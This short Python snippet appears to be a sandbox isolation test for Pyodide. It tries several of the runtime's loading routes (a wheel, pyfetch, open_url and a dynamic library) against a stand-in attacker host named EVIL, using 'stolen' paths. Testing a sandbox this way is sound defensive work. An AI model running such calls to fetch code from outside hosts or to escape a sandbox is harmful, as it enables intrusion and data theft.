# Tries Pyodide's own ways to load things: packages, requests, libraries.
import pyodide.http, pyodide_js

await attempt("wheel", lambda: pyodide_js.loadPackage(EVIL + "/stolen-1-py3-none-any.whl"))
await attempt("pyfetch", lambda: pyodide.http.pyfetch(EVIL + "/stolen"))
await attempt("open_url", lambda: pyodide.http.open_url(EVIL + "/stolen"))
await asyncio.sleep(0.3)
print("tried")
library = options(loadAsync=True)
await attempt("library", lambda: pyodide_js._module.loadDynamicLibrary(EVIL + "/stolen.so", library))
await asyncio.sleep(0.3)
